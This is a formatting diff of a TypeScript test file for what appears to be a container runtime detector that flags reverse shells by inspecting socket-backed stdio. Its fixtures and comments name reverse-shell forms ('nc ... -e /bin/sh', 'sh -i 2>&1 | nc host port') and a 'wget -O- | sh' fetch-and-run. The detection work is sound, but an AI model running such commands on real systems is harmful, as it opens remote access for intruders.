@@ -16,14 +16,20 @@ afterEach(() => rmSync(root, { recursive: true, force: true }));
 
 const CID = 'c'.repeat(64);
 const container: ContainerInfo = {
-  id: CID, runtime: 'docker', cgroupPath: `/kubepods/besteffort/pod1/${CID}`, name: 'k8s_app_web-1', image: 'shop/web:2',
+  id: CID,
+  runtime: 'docker',
+  cgroupPath: `/kubepods/besteffort/pod1/${CID}`,
+  name: 'k8s_app_web-1',
+  image: 'shop/web:2',
   labels: { 'io.kubernetes.pod.name': 'web-5c9d-abcde', 'pod-template-hash': '5c9d', app: 'web' },
   k8s: { namespace: 'shop', pod: 'web-5c9d-abcde', container: 'app' },
 };
 
 function ctx(processes: ProcessInfo[], sockets: SocketInfo[]): EventContext {
   return {
-    hostname: 'node-1', procRoot: root, now: () => 1_000,
+    hostname: 'node-1',
+    procRoot: root,
+    now: () => 1_000,
     process: (pid) => processes.find((p) => p.pid === pid),
     container: (id) => (id === CID ? container : undefined),
     containerOfNetns: () => undefined,
@@ -35,14 +41,24 @@ function ctx(processes: ProcessInfo[], sockets: SocketInfo[]): EventContext {
 describe('dupEvents', () => {
   it('raises one dup per socket for a direct reverse shell, output fd first, with pod and process', () => {
     const s = sock({ inode: 7, pids: [10] });
-    const sh = proc({ pid: 10, ppid: 9, containerId: CID, stdio: [{ kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }] });
+    const sh = proc({
+      pid: 10,
+      ppid: 9,
+      containerId: CID,
+      stdio: [
+        { kind: 'socket', inode: 7 },
+        { kind: 'socket', inode: 7 },
+        { kind: 'socket', inode: 7 },
+      ],
+    });
     const parent = proc({ pid: 9, comm: 'bash', ppid: 1 });
     const c = ctx([sh, parent], [s]);
     const memory = new DupMemory();
     const [event, ...rest] = dupEvents(sh, c, listeningIndex([s]), memory);
     expect(rest).toEqual([]);
     expect(event).toMatchObject({
-      type: 'dup', rawres: 1,
+      type: 'dup',
+      rawres: 1,
       proc: { pid: 10, name: 'sh', ancestors: [{ pid: 9, name: 'bash' }] },
       fd: { type: 'ipv4', sip: '10.0.0.9', sport: 4444, name: '10.0.0.5:40000->10.0.0.9:4444', direction: 'out' },
       container: { id: CID, imageRepository: 'shop/web', imageTag: '2' },
@@ -51,9 +67,13 @@ describe('dupEvents', () => {
     expect(dupEvents(sh, c, listeningIndex([s]), memory)).toEqual([]); // once per (process, socket)
   });
 
-  it('raises the shell\'s dup after the same pid was seen as nc with the socket (nc -e execs in place)', () => {
+  it("raises the shell's dup after the same pid was seen as nc with the socket (nc -e execs in place)", () => {
     const s = sock({ inode: 7, pids: [10] });
-    const stdio = [{ kind: 'socket', inode: 7 }, { kind: 'socket', inode: 7 }, { kind: 'pipe', inode: 3 }] as const;
+    const stdio = [
+      { kind: 'socket', inode: 7 },
+      { kind: 'socket', inode: 7 },
+      { kind: 'pipe', inode: 3 },
+    ] as const;
     const asNc = proc({ pid: 10, comm: 'nc', exe: '/bin/busybox', args: ['nc', 'h', '1', '-e', '/bin/sh'], stdio });
     const asSh = proc({ pid: 10, comm: 'sh', exe: '/bin/busybox', args: ['/bin/sh'], stdio });
     const memory = new DupMemory();
@@ -87,14 +107,35 @@ describe('dupEvents', () => {
     symlinkSync('pipe:[301]', join(root, '20', 'fd', '1'));
     symlinkSync('socket:[900]', join(root, '20', 'fd', '3'));
     // wget -O- | sh: sh reads the download on stdin, writes to the terminal.
-    const curlSh = proc({ pid: 10, stdio: [{ kind: 'pipe', inode: 301 }, { kind: 'tty', path: '/dev/pts/1' }, { kind: 'tty', path: '/dev/pts/1' }] });
+    const curlSh = proc({
+      pid: 10,
+      stdio: [
+        { kind: 'pipe', inode: 301 },
+        { kind: 'tty', path: '/dev/pts/1' },
+        { kind: 'tty', path: '/dev/pts/1' },
+      ],
+    });
     expect(dupEvents(curlSh, ctx([curlSh, nc], [s]), new Map(), new DupMemory())).toEqual([]);
     // sh -i 2>&1 | nc host port: the output goes to the socket.
-    const revSh = proc({ pid: 11, stdio: [{ kind: 'pipe', inode: 555 }, { kind: 'pipe', inode: 301 }, { kind: 'pipe', inode: 301 }] });
+    const revSh = proc({
+      pid: 11,
+      stdio: [
+        { kind: 'pipe', inode: 555 },
+        { kind: 'pipe', inode: 301 },
+        { kind: 'pipe', inode: 301 },
+      ],
+    });
     const [event] = dupEvents(revSh, ctx([revSh, nc], [s]), new Map(), new DupMemory());
     expect(event).toMatchObject({ rawres: 1, fd: { relayPid: 20, relayName: 'nc', rport: 4444 } });
     // sh -c '(echo hi; sleep 20) | nc host port': output to the socket, but nothing to read from it.
-    const scriptSh = proc({ pid: 12, stdio: [{ kind: 'file', path: '/dev/null' }, { kind: 'pipe', inode: 301 }, { kind: 'pipe', inode: 301 }] });
+    const scriptSh = proc({
+      pid: 12,
+      stdio: [
+        { kind: 'file', path: '/dev/null' },
+        { kind: 'pipe', inode: 301 },
+        { kind: 'pipe', inode: 301 },
+      ],
+    });
     expect(dupEvents(scriptSh, ctx([scriptSh, nc], [s]), new Map(), new DupMemory())).toEqual([]);
   });
 
